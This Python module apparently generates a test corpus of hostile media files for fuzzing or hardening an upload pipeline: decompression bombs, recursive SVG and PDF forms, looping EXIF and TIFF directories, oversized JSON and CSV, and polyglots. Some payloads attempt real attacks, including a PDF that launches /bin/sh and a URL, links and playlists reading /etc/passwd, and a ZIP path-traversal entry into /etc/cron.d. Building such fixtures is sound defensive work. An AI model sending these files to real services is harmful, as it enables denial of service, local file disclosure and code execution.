"""Files and values made to do harm: bombs, loops, disguises. Each is small, and made on the spot."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib

import media_files

_GIF_FRAME = b"\x21\xf9\x04\x04\x01\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00"


def png_bomb() -> bytes:
    """Return a PNG of 60,000 by 60,000 pixels in a few hundred kilobytes."""
    side = 60_000
    rows = zlib.compressobj(9)
    row = bytes(1 + side // 8)
    data = b"".join(rows.compress(row) for _ in range(2000)) + rows.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """Return a PNG with a compressed text that unpacks to 100 MB: more than a decoder takes."""
    packer = zlib.compressobj(1)
    text = b"".join(packer.compress(bytes(1_000_000)) for _ in range(100)) + packer.flush()
    plain = media_files.encode_picture("PNG", (32, 32))
    return plain[:33] + _chunk(b"zTXt", b"Comment\0\0" + text) + plain[33:]


def gif_without_end(frames: int = 1_000_000) -> bytes:
    """Return a GIF of a million frames."""
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff" + _GIF_FRAME * frames + b";"


def svg_bomb(levels: int = 24) -> bytes:
    """Return an SVG whose `<use>`s name each other: 2 to the power of the levels rectangles."""
    parts = ['<rect id="a0" width="9" height="9"/>']
    parts += [f'<g id="a{n}"><use href="#a{n - 1}"/><use href="#a{n - 1}" x="{n}"/></g>' for n in range(1, levels + 1)]
    body = "".join(parts)
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99">{body}<use href="#a{levels}"/></svg>'.encode()
    )


def svg_loop() -> bytes:
    """Return an SVG that uses itself, and one that refers to what no decoder may read."""
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99"><g id="a"><use href="#a"/></g>'
        b'<image href="file:///dev/zero" width="9" height="9"/>'
        b'<image href="http://127.0.0.1:9/x" width="9" height="9"/>'
        b"<style>@import url(file:///dev/zero);</style><script>while(1);</script></svg>"
    )


def pdf_bomb(levels: int = 9) -> bytes:
    """Return a PDF whose forms draw each other ten times each: 10 to the power of the levels."""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R"
        b" /Resources << /XObject << /F 5 0 R >> >> >>"
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        b"<< /Length 5 >>\nstream\n/F Do\nendstream",
    ]
    for level in range(levels):
        inner = b"/F Do " * 10 if level < levels - 1 else b"0 0 9 9 re f "
        named = b"/Resources << /XObject << /F %d 0 R >> >>" % (6 + level) if level < levels - 1 else b""
        objects.append(
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 600 800] %s /Length %d >>\nstream\n%s\nendstream"
            % (named, len(inner), inner)
        )
    return media_files.join_pdf(objects)


def pdf_with_scripts() -> bytes:
    """Return a PDF that wants to run a script, to start a program and to open an address when it is opened."""
    catalogue = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:9'\\)) >>"
        b" /AA << /WC << /S /Launch /F (/bin/sh) >> >> >>"
    )
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Annots [<< /Subtype /Link /Rect [0 0 99 99]"
        b" /A << /S /URI /URI (file:///etc/passwd) >> >>] >>"
    )
    return media_files.join_pdf([catalogue, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page])


def zip_bomb() -> bytes:
    """Return a ZIP of more names than are listed, that climb out of their folder."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../../etc/cron.d/evil", bytes(5_000_000))
        for number in range(5500):
            archive.writestr(zipfile.ZipInfo(f"\x1b[2J/{number}/\u202egpj.exe"), b"")
    return buffer.getvalue()


def tar_bomb() -> bytes:
    """Return a packed tar of one file with a gigabyte of zeros."""
    head = bytearray(media_files.encode_tar("w", ("zeros",))[:512])
    head[124:136] = b"%011o\0" % 1_000_000_000
    head[148:156] = b" " * 8
    head[148:156] = b"%06o\0 " % sum(head)
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", compresslevel=1) as packed:
        packed.write(bytes(head))
        for _ in range(300):
            packed.write(bytes(1_000_000))
    return buffer.getvalue()


def exif_loop() -> bytes:
    """Return a JPEG whose EXIF directory is followed by itself."""
    tiff = b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<I", 8)
    exif = b"Exif\0\0" + tiff
    plain = media_files.encode_picture("JPEG", (64, 64))
    return plain[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + plain[2:]


def tiff_loop() -> bytes:
    """Return a TIFF whose directory is followed by itself."""
    plain = bytearray(media_files.encode_picture("TIFF", (16, 16)))
    at = struct.unpack_from("<I", plain, 4)[0]
    count = struct.unpack_from("<H", plain, at)[0]
    struct.pack_into("<I", plain, at + 2 + 12 * count, at)
    return bytes(plain)


def deep_json(depth: int = 200_000) -> bytes:
    """Return JSON of lists in lists in lists."""
    return b"[" * depth + b"]" * depth


def wide_json(members: int = 400_000) -> bytes:
    """Return JSON of one object with many members."""
    return b"{" + b",".join(b'"k%d":%d' % (n, n) for n in range(members)) + b"}"


def wide_csv() -> bytes:
    """Return a table of 300,000 columns, and one cell of two megabytes."""
    return b",".join(b"c%d" % n for n in range(300_000)) + b'\n"' + b"x" * 2_000_000 + b'"\n'


def polyglots() -> dict[str, bytes]:
    """Return files that are two things at once."""
    png, archive = media_files.encode_picture("PNG", (16, 16)), media_files.encode_zip()
    pdf = media_files.encode_pdf(["both"])
    return {
        "picture-and-archive.png": png + archive,
        "gif-and-script.html": b"GIF89a/*<script>alert(1)</script>*/=1;",
        "document-and-archive.zip": pdf + archive,
        "drawing.png": media_files.SVG,
        "document.jpg": pdf,
        "playlist.mp4": b"#EXTM3U\nfile:///etc/passwd\nhttp://127.0.0.1:9/x\n",
        "concat.webm": b"ffconcat version 1.0\nfile /etc/passwd\n",
    }


def corpus() -> dict[str, bytes]:
    """Return all of it by file name."""
    return {
        "bomb.png": png_bomb(),
        "text-bomb.png": png_text_bomb(),
        "endless.gif": gif_without_end(),
        "bomb.svg": svg_bomb(),
        "loop.svg": svg_loop(),
        "bomb.pdf": pdf_bomb(),
        "scripts.pdf": pdf_with_scripts(),
        "bomb.zip": zip_bomb(),
        "bomb.tar.gz": tar_bomb(),
        "exif-loop.jpg": exif_loop(),
        "loop.tiff": tiff_loop(),
        "deep.json": deep_json(),
        "wide.json": wide_json(),
        "wide.csv": wide_csv(),
        "cut.png": media_files.encode_picture("PNG")[:300],
        "empty.pdf": b"",
        **polyglots(),
    }


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
